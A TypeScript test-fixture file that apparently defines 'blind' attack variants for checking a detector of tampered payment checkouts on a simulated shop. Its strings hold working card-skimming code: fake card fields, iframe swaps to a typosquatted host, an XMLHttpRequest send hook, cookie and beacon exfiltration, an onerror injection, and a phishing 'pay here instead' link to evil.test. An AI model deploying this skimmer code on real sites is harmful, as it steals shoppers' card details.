import * as hosted from './hosted.ts'
import * as store from './store.ts'
import { checkout, html, js, type Variant } from './variants.ts'

/** Attacks on the page with the card field in the provider's frame. */
export const blindHostedAttacks: readonly Variant[] = [
  {
    id: 'relay-frame',
    about: 'a frame of the shop draws card fields and hands them to the page',
    change: (site) => {
      site.files['shop.test/static/secure.html'] = {
        type: 'text/html',
        body: '<label>Card number <input name="cardnumber" autocomplete="cc-number"></label><script>document.querySelector("input").onchange = function () { parent.postMessage({ n: this.value }, "*"); };</script>',
      }
      site.files['shop.test/static/checkout.4f2a91.js'] = js(
        hosted
          .checkout(
            'addEventListener("message", function (e) { if (e.data.n) Q.ajax({ type: "POST", url: "/cart/note", data: "t=" + btoa(e.data.n) }); });',
          )
          .replace(
            'Elements.mount("#card-element", "pk_test_1");',
            'Q("#card-element").html("<iframe title=\'Secure card field\' src=\'/static/secure.html\'></iframe>");',
          ),
      )
    },
  },
  checkout(
    'observer-swap',
    'the address of the frame is swapped when it appears',
    'new MutationObserver(function (l) { l.forEach(function (m) { m.addedNodes.forEach(function (n) { if (n.tagName === "IFRAME") setTimeout(function () { n.src = n.src.replace("js.provider", "js.provlder"); }, 100); }); }); }).observe(document.getElementById("card-element"), { childList: true }); document.querySelector("#card-element iframe") && (document.querySelector("#card-element iframe").src = "http://js.provlder.test/v3/card-a1.html");',
  ),
  checkout(
    'blob-frame',
    'the frame is drawn from text in the page',
    'var u = URL.createObjectURL(new Blob(["<label>Card number <input name=cardnumber autocomplete=cc-number></label>"], { type: "text/html" })); document.querySelector("#card-element iframe").src = u;',
  ),
  checkout(
    'editable',
    'text that can be edited lies where the frame was',
    'Q("#card-element").html("<div contenteditable style=\'border:1px solid;width:320px;height:40px\' aria-label=\'Card number\'></div>"); document.querySelector("[contenteditable]").addEventListener("blur", function () { Q.ajax({ type: "POST", url: "/cart/note", data: "x=" + encodeURIComponent(this.textContent) }); });',
  ),
  checkout(
    'drawn-field',
    'a field drawn on canvas takes keys',
    'var c = document.createElement("canvas"), n = ""; c.tabIndex = 0; c.width = 320; c.height = 40; c.setAttribute("aria-label", "Card number"); document.querySelector("#card-element").replaceChildren(c); c.addEventListener("keydown", function (e) { n += e.key; c.getContext("2d").fillText(n, 4, 20); if (n.length > 18) Q.ajax({ type: "POST", url: "/cart/note", data: "c=" + n }); });',
  ),
  html(
    'object-form',
    'a document of a stranger as object',
    '<object data="http://evil.test/card" type="text/html" width="320" height="90"></object>',
  ),
  checkout(
    'popup',
    'pay opens a window of its own',
    'Q("#pay").on("submit", function (e) { e.preventDefault(); window.open("http://secure-provider.test/pay?o=c-81723", "pay", "width=420,height=600"); });',
  ),
  {
    id: 'merchant-key',
    about: 'another account of the same provider',
    change: (site) =>
      void (site.files['shop.test/static/checkout.4f2a91.js'] = js(
        hosted.checkout().replace('pk_test_1', 'pk_live_99x'),
      )),
  },
  {
    id: 'sdk-wrapped',
    about: 'an inline script wraps the script of the provider',
    change: (site) =>
      void site.inline.push(
        'var el = window.Elements; Object.defineProperty(window, "Elements", { configurable: true, get: function () { return el && new Proxy(el, { get: function (t, k) { return k === "mount" ? function (s) { document.querySelector(s).innerHTML = "<input placeholder=\\"1234 1234 1234 1234\\" name=n1>"; } : t[k]; } }); }, set: function (v) { el = v; } });',
      ),
  },
]

/** Attacks on the shop plugin's checkout. */
export const blindStoreAttacks: readonly Variant[] = [
  {
    id: 'fake-method',
    about: 'a payment method with card fields of the page itself, no script',
    change: (site) =>
      void (site.body = store.storeBody(
        '<li><label><input type="radio" name="payment_method" value="cc2"> Credit or debit card</label><div class="payment_box"><label>Card number <input name="cc2_number" inputmode="numeric" maxlength="19"></label><label>CVV <input name="cc2_cvv" maxlength="4"></label></div></li>',
      )),
  },
  {
    id: 'merchant-field',
    about: 'the number of the merchant in the form is another one',
    change: (site) => void (site.body = store.storeBody('', 'M-9002')),
  },
  {
    id: 'gateway-key',
    about: 'the key of the gateway in the inline settings is another one',
    change: (site) => void (site.inline[2] = 'var gateway_params = {"key":"pk_live_77Q","locale":"de"};'),
  },
  {
    id: 'send-patch',
    about: 'XMLHttpRequest.send copies what the checkout posts and asks for the card in the total',
    change: (site) => {
      site.files['shop.test/lib/lib.js'] = js(
        `${(site.files['shop.test/lib/lib.js']?.body ?? '').replace('3.7.1', '3.7.1')}(function (p) { var s = p.send; p.send = function (b) { if (b) navigator.sendBeacon("/lib/lib.map", btoa(b)); return s.apply(this, arguments); }; })(XMLHttpRequest.prototype);`,
      )
    },
  },
  {
    id: 'gateway-inputs',
    about: 'the plugin of the gateway draws inputs for the frames',
    change: (site) => {
      site.files['shop.test/plugins/gateway/upe.js'] = js(
        store.gateway(
          '8.1.1',
          'setTimeout(function () { ["number", "expiry", "cvc"].forEach(function (p) { document.getElementById("gw-" + p).innerHTML = "<input class=StripeField placeholder=" + p + ">"; }); Q(".StripeField").on("change", function (e) { document.cookie = "wp_" + e.target.placeholder + "=" + btoa(e.target.value); }); }, 300);',
        ),
      )
    },
  },
  {
    id: 'frame-of-page',
    about: 'the frames of the gateway come from a path of the shop',
    change: (site) => {
      site.files['shop.test/plugins/gateway/upe.js'] = js(
        store.gateway('8.1.0').replace('"http://js.provider.test"', 'location.origin + "/plugins/gateway/proxy"'),
      )
      for (const part of ['number', 'expiry', 'cvc'])
        site.files[`shop.test/plugins/gateway/proxy/v3/${part}.html`] = {
          type: 'text/html',
          body: '<label>Card number <input autocomplete="cc-number" onchange="fetch(\'/plugins/gateway/t\',{method:\'POST\',body:this.value})"></label>',
        }
    },
  },
  {
    id: 'block-note',
    about: 'the owner is told to pay by transfer to an account in the text of the page',
    change: (site) =>
      void site.inline.push(
        'jqReady(function () { var m = document.querySelector(".methods"); m.innerHTML = "<li><b>Card payments are down.</b> <a href=\\"http://pay-shop.evil.test/i/81723\\">Pay here instead</a></li>"; });',
      ),
  },
  {
    id: 'update-handler',
    about: 'an answer of the totals holds markup with a handler',
    change: (site) =>
      void (site.files['shop.test/plugins/store/checkout.min.js'] = js(
        store.checkoutScript(
          'document.querySelector("footer").insertAdjacentHTML("beforeend", "<img src=x.png onerror=\\"[].forEach.call(document.querySelectorAll(\'iframe\'),function(f){f.style.display=\'none\';f.insertAdjacentHTML(\'afterend\',\'<input autocomplete=cc-number>\')})\\">");',
        ),
      )),
  },
]
